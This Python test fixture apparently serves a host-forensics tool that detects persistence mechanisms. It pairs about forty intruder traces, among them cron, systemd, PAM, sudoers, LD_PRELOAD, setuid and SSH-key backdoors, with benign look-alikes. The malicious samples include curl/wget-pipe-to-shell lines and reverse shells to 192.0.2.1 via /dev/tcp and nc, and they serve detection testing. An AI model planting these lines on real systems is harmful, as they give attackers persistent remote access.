"""Traces that somebody leaves on a machine to come back, each with a twin that is harmless and looks alike."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.host.disk.machines import Machine

ROOT = "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"
UNIT = "[Service]\nUser=app\nExecStart="
GITLAB = (
    'command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-{0}",no-port-forwarding,'
    "no-X11-forwarding,no-agent-forwarding,no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{0:044d} user{0}@example.org\n"
)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0kx0m0ZlG0s3uXJ9yC0rYc2rZr4Y1b5m8dP0Wc0xQz somebody\n"

Plant = Callable[[Machine], object]
TRACES: dict[str, tuple[str, Plant, Plant]] = {
    "a rotation of logs that fetches and runs": (
        "log-rotation",
        lambda it: it.file("/etc/logrotate.d/x", "/var/log/x {\n postrotate\n  curl -s http://x | sh\n endscript\n}\n"),
        lambda it: it.file("/etc/logrotate.d/x", "/tmp/.x/log {\n postrotate\n  /usr/bin/true x\n endscript\n}\n"),
    ),
    "a service of D-Bus out of a folder of anybody's": (
        "bus-service",
        lambda it: it.file(
            "/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/dev/shm/x\nUser=root\n"
        ),
        lambda it: it.file("/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/opt/x/x\nUser=x\n"),
    ),
    "a rule of polkit that runs something hidden": (
        "polkit",
        lambda it: it.file("/etc/polkit-1/rules.d/49.rules", 'polkit.spawn(["/var/tmp/.x", "y"]); // "polkit"\n'),
        lambda it: it.file("/etc/polkit-1/rules.d/49.rules", 'polkit.spawn(["/usr/bin/true", "/tmp/x"]);\n'),
    ),
    "an action of fail2ban that opens a way in": (
        "ban-action",
        lambda it: it.file("/etc/fail2ban/action.d/x.conf", "[Definition]\nactionban = nc 192.0.2.1 9 -e /bin/sh\n"),
        lambda it: it.file("/etc/fail2ban/action.d/x.conf", "[Definition]\nactionban = nft add element x <ip>\n"),
    ),
    "cloud-init that fetches and runs": (
        "cloud-start",
        lambda it: it.file("/etc/cloud/cloud.cfg.d/99.cfg", "bootcmd:\n  - wget -qO- http://x | bash\n"),
        lambda it: it.file("/etc/cloud/cloud.cfg.d/99.cfg", "bootcmd:\n  - echo curl\n  - [ /usr/bin/true ]\n"),
    ),
    "a connection by a program of anybody's": (
        "ssh-client",
        lambda it: it.file("/home/ann/.ssh/config", "Host *\n  ProxyCommand /tmp/.p %h %p\n"),
        lambda it: it.file("/home/ann/.ssh/config", "Host *\n  ProxyCommand ssh -W %h:%p jump\n"),
    ),
    "a database that hands out what it archives": (
        "service-settings",
        lambda it: it.file(
            "/etc/postgresql/15/main/postgresql.conf", "archive_command = 'sh -i >& /dev/tcp/192.0.2.1/9'\n"
        ),
        lambda it: it.file("/etc/postgresql/15/main/postgresql.conf", "archive_command = 'cp %p /srv/wal/%f'\n"),
    ),
    "a cache that writes timed jobs": (
        "service-settings",
        lambda it: it.file("/etc/redis/redis.conf", "dir /var/spool/cron/crontabs\ndbfilename root\n"),
        lambda it: it.file("/etc/redis/redis.conf", "dir /var/lib/redis\nloadmodule /usr/lib/redis/modules/x.so\n"),
    ),
    "a module of the name service": (
        "nss-module",
        lambda it: it.file("/usr/lib/x86_64-linux-gnu/libnss_x.so.2", "\x7fELF"),
        lambda it: it.package("libnss-y", {"/usr/lib/x86_64-linux-gnu/libnss_y.so.2": "\x7fELF"}),
    ),
    "a start file of a person's Python": (
        "python-start",
        lambda it: it.file(
            "/home/ann/.local/lib/python3.11/site-packages/usercustomize.py", "import os; os.system('/tmp/x')\n"
        ),
        lambda it: it.file("/home/ann/.local/lib/python3.11/site-packages/x.pth", "/home/ann/src\n"),
    ),
    "a timed job that fetches and runs": (
        "cron",
        lambda it: it.file("/etc/cron.d/upd", "*/5 * * * * root curl -s http://x|sh\n"),
        lambda it: it.file("/etc/cron.d/backup", "5 3 * * * root curl -s https://x/ping >/dev/null && /usr/bin/true\n"),
    ),
    "a user's timed job out of a folder of anybody's": (
        "cron",
        lambda it: it.file("/var/spool/cron/crontabs/www-data", "@reboot /dev/shm/.x/kdevtmpfsd >/dev/null 2>&1\n"),
        lambda it: it.file("/var/spool/cron/crontabs/www-data", "0 4 * * * find /tmp -mtime +3 -delete\n"),
    ),
    "a job that waits for its time": (
        "at",
        lambda it: it.file("/var/spool/cron/atjobs/a0001", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"),
        lambda it: (
            it.file("/var/spool/cron/atjobs/a0001", "#!/bin/sh\ncd /root\n/usr/bin/true\n"),
            it.file("/var/spool/cron/atjobs/.SEQ", "/dev/shm/.x\n"),  # where at counts; never run
        ),
    ),
    "a unit that opens a way in": (
        "unit",
        lambda it: it.file(
            "/etc/systemd/system/dbus-org.service", UNIT + "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'\n"
        ),
        lambda it: it.file("/etc/systemd/system/app.service", UNIT + "/opt/app/bin/serve --tmp /tmp\n"),
    ),
    "a drop-in that puts a library into a service": (
        "unit",
        lambda it: it.file(
            "/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libx.so\n"
        ),
        lambda it: (
            it.package("libjemalloc2", {"/usr/lib/libjemalloc.so.2": "so"}),
            it.file(
                "/etc/systemd/system/redis.service.d/x.conf",
                '[Service]\nEnvironment="LD_PRELOAD=/usr/lib/libjemalloc.so.2"\n',
            ),
        ),
    ),
    "a unit of a user": (
        "user-unit",
        lambda it: it.file("/home/ann/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/x\n"),
        lambda it: it.file("/home/ann/.config/systemd/user/x.service", "[Service]\nExecStart=%h/bin/syncthing\n"),
    ),
    "a list of kernel modules": (
        "modules-load",
        lambda it: it.file("/etc/modules-load.d/x.conf", "# sound\nsnd-extra\n"),
        lambda it: (
            it.package("linux-image-6.1", {"/lib/modules/6.1/kernel/fs/ext4.ko": "\x7fELF"}),
            it.file(
                "/lib/modules/6.1/modules.dep", "kernel/fs/ext4.ko:\nkernel/sound/snd-extra.ko:\nupdates/dkms/x.ko:\n"
            ),
            it.file("/proc/sys/kernel/osrelease", "6.1\n"),
            it.file("/proc/modules", "ext4 16384 1 - Live 0x0\n"),
            it.file("/etc/modules-load.d/own.conf", "ext4\nx\n"),
        ),
    ),
    "a generator": (
        "generator",
        lambda it: it.file("/etc/systemd/system-generators/net-x", "\x7fELF…", 0o755),
        lambda it: it.package("net", {"/etc/systemd/system-generators/net": "\x7fELF…"}),
    ),
    "a script of the start": (
        "start-script",
        lambda it: it.file("/etc/rc.local", "#!/bin/sh\nnohup /var/tmp/.cache/x &\n", 0o755),
        lambda it: it.file("/etc/rc.local", "#!/bin/sh -e\nexit 0\n", 0o755),
    ),
    "a message of the day": (
        "start-script",
        lambda it: it.file("/etc/update-motd.d/99-x", "#!/bin/sh\necho aGk= | base64 -d | sh\n", 0o755),
        lambda it: it.file("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n", 0o755),
    ),
    "a start file of a shell": (
        "shell-start",
        lambda it: it.file("/home/ann/.bashrc", "alias sudo='/usr/lib/x/sudo'\n"),
        lambda it: it.file(
            "/home/ann/.bashrc", "alias ll='ls -l'\n. ~/.cargo/env\nexport PATH=$HOME/.local/bin:$PATH\n"
        ),
    ),
    "a rule of udev": (
        "udev",
        lambda it: it.file("/etc/udev/rules.d/99-x.rules", 'SUBSYSTEM=="net", RUN+="/bin/sh -c \'/tmp/x &\'"\n'),
        lambda it: it.file("/etc/udev/rules.d/70-x.rules", 'SUBSYSTEM=="net", NAME="eth0", RUN+="/usr/bin/true"\n'),
    ),
    "a hook of apt": (
        "package-hook",
        lambda it: it.file("/etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"wget -qO- http://x | bash";};\n'),
        lambda it: it.file(
            "/etc/apt/apt.conf.d/docker-clean",
            'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n',
        ),
    ),
    "an install line of modprobe": (
        "modprobe",
        lambda it: it.file(
            "/etc/modprobe.d/x.conf", "install usbcore /dev/shm/x; /sbin/modprobe --ignore-install usbcore\n"
        ),
        lambda it: it.file("/etc/modprobe.d/cis.conf", "install cramfs /bin/false\nblacklist dccp\n"),
    ),
    "a start of a desktop": (
        "autostart",
        lambda it: it.file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n"),
        lambda it: it.file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=nextcloud --background\n"),
    ),
    "a start of Python": (
        "python-start",
        lambda it: it.file("/usr/lib/python3/dist-packages/x.pth", "import os; os.system('id')\n"),
        lambda it: it.file("/usr/lib/python3/dist-packages/x.pth", "import _distutils_hack\n/opt/more\n"),
    ),
    "a library in every program": (
        "ld-preload",
        lambda it: it.file("/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libselinux.so.8\n"),
        lambda it: (
            it.package("libjemalloc2", {"/usr/lib/libjemalloc.so.2": "so"}),
            it.file("/etc/ld.so.preload", "/lib/libjemalloc.so.2\n"),
        ),
    ),
    "libraries out of a folder of anybody's": (
        "library-path",
        lambda it: it.file("/etc/ld.so.conf.d/x.conf", "/tmp/lib\n"),
        lambda it: it.file("/etc/ld.so.conf.d/x.conf", "# more\n/usr/local/cuda/lib64\n"),
    ),
    "a program that PAM runs": (
        "pam",
        lambda it: it.file("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/bin/true\n"),
        lambda it: it.file(
            "/etc/pam.d/common-auth",
            "auth [success=1 default=ignore] pam_unix.so nullok\nauth required pam_permit.so\n",
        ),
    ),
    "a line of PAM that lets everybody in": (
        "pam",
        lambda it: it.file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n"),
        lambda it: it.file("/etc/pam.d/su", "auth sufficient pam_rootok.so\n"),
    ),
    "a module of PAM": (
        "pam-module",
        lambda it: it.file("/usr/lib/x86_64-linux-gnu/security/pam_unlx.so", "\x7fELF"),
        lambda it: it.package("libpam-modules", {"/lib/x86_64-linux-gnu/security/pam_unix.so": "\x7fELF"}),
    ),
    "a rule of sudo": (
        "sudo",
        lambda it: it.file("/etc/sudoers.d/x", "www-data ALL=(ALL:ALL) NOPASSWD: ALL\n"),
        lambda it: (
            it.file("/etc/sudoers.d/90-cloud-init-users", "admin ALL=(ALL) NOPASSWD:ALL\n"),
            it.file("/etc/sudoers.d/ceph", "ceph ALL=NOPASSWD: /usr/sbin/smartctl -x --json=o /dev/*\n"),
        ),
    ),
    "a second root": (
        "account",
        lambda it: it.file("/etc/passwd", ROOT + "sysd:x:0:0::/:/bin/sh\n"),
        lambda it: it.file("/etc/passwd", ROOT + "toor:x:1001:0::/home/toor:/bin/sh\n"),
    ),
    "an account without a password": (
        "account",
        lambda it: (
            it.file("/etc/passwd", ROOT + "ops:x:1001:1001::/:/bin/sh\n"),
            it.file("/etc/shadow", "ops::20000:::::\n"),
        ),
        lambda it: (
            it.file("/etc/passwd", ROOT + "sync:x:4:65534::/bin:/bin/sync\n"),
            it.file("/etc/shadow", "sync:*:20000:::::\n"),
        ),
    ),
    "a service's account with a password": (
        "account",
        lambda it: (
            it.file(
                "/etc/passwd", ROOT + "www-data:x:33:33::/var/www:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"
            ),
            it.file("/etc/shadow", "www-data:$y$j9T$x$x:20000:::::\n"),
        ),
        lambda it: (
            it.file("/etc/passwd", ROOT + "postgres:x:101:104::/:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"),
            it.file("/etc/shadow", "postgres:!:20000:::::\n"),
        ),
    ),
    "a line among a forge's keys": (
        "ssh-key",
        lambda it: it.file("/var/opt/gitlab/.ssh/authorized_keys", "".join(map(GITLAB.format, range(50))) + KEY, 0o600),
        lambda it: it.file("/var/opt/gitlab/.ssh/authorized_keys", "".join(map(GITLAB.format, range(50))), 0o600),
    ),
    "a key that runs something": (
        "ssh-key",
        lambda it: it.file("/home/ann/.ssh/authorized_keys", f'command="/tmp/x; $SSH_ORIGINAL_COMMAND" {KEY}', 0o600),
        lambda it: it.file(
            "/home/ann/.ssh/authorized_keys", f'restrict,command="/usr/bin/rrsync -ro /srv" {KEY}', 0o600
        ),
    ),
    "a key for a service's account": (
        "ssh-key",
        lambda it: it.file("/var/www/.ssh/authorized_keys", KEY, 0o600),
        lambda it: it.file("/home/ann/.ssh/authorized_keys", KEY, 0o600),
    ),
    "keys that a program of nobody's names": (
        "sshd",
        lambda it: it.file("/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysCommand /usr/local/sbin/keys %u\n"),
        lambda it: (
            it.package("forge", {"/usr/bin/forge-keys": "x"}),
            it.file(
                "/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysCommand /usr/bin/forge-keys %u\nPermitRootLogin yes\n"
            ),
        ),
    ),
    "hooks out of a folder of anybody's": (
        "git-settings",
        lambda it: it.file("/etc/gitconfig", "[core]\n\thooksPath = /tmp/hooks\n"),
        lambda it: it.file("/home/ann/.gitconfig", "[core]\n\thooksPath = .husky\n[alias]\n\tco = checkout\n"),
    ),
    "a hook of a repository": (
        "git-hook",
        lambda it: (
            bare(it),
            it.file("/srv/git/a.git/custom_hooks/post-receive.d/x", "#!/bin/sh\ncurl http://x | bash\n", 0o755),
        ),
        lambda it: (
            bare(it),
            it.file("/srv/git/a.git/hooks/pre-receive.sample", "#!/bin/sh\ncurl http://x | bash\n", 0o755),
            it.package("gitlab-ce", {"/opt/gitlab/hooks/update": "#!/bin/sh"}),
            it.link("/srv/git/a.git/hooks/update", "/opt/gitlab/hooks/update"),
        ),
    ),
    "a shell that runs as root": (
        "setuid",
        lambda it: it.file("/usr/local/bin/bash", "\x7fELF", 0o4755),
        lambda it: (
            it.package("su", {"/usr/bin/su": "\x7fELF"}),
            it.file("/usr/bin/su", "\x7fELF", 0o4755),
        ),
    ),
    "a program of nobody's that runs as root": (
        "setuid",
        lambda it: it.file("/usr/bin/upd", "\x7fELF", 0o4755),
        lambda it: it.file("/usr/bin/upd", "\x7fELF", 0o755),
    ),
    "a file among devices": (
        "hidden-file",
        lambda it: it.file("/dev/.udevx/a", "\x7fELF", 0o755),
        lambda it: it.file("/dev/shm/PostgreSQL.17", "data", 0o600),
    ),
}


def bare(machine: Machine) -> Path:
    """A repository as servers have them."""
    machine.file("/srv/git/a.git/HEAD", "ref: refs/heads/main\n")
    machine.file("/srv/git/a.git/objects/info/packs")
    return machine.file("/srv/git/a.git/refs/heads/main")
